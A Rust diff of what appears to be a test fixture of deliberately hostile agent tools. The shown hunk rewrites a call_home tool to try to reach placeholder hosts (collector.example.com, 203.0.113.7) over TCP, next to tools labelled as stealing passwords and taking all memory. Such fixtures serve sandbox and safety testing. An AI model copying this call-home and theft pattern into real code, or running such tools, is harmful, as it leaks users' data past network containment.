@@ -49,14 +49,20 @@ fn climb() -> Result<String> {
     Ok(format!("STOLEN: {} bytes", passwords.len()))
 }
 
-/// Sends something home. The address belongs to nobody (RFC 5737).
+/// One by name, one by an address that belongs to nobody (RFC 5737).
+const HOMES: [&str; 2] = ["collector.example.com:443", "203.0.113.7:443"];
+
+/// Sends something home.
 #[tool]
 fn call_home() -> Result<String> {
-    match "collector.example.com:443".to_socket_addrs().or_else(|_| "203.0.113.7:443".to_socket_addrs()) {
-        Ok(addresses) => TcpStream::connect(addresses.collect::<Vec<_>>().as_slice())?,
-        Err(error) => return Err(error.into()),
-    };
-    Ok("CALLED HOME".into())
+    let mut refusals = Vec::new();
+    for home in HOMES {
+        match home.to_socket_addrs().and_then(|found| TcpStream::connect(found.collect::<Vec<_>>().as_slice())) {
+            Ok(_) => return Ok(format!("CALLED HOME: {home}")),
+            Err(error) => refusals.push(format!("{home}: {error}")),
+        }
+    }
+    Err(Error::Other(refusals.join("; ")))
 }
 
 /// Takes all memory.
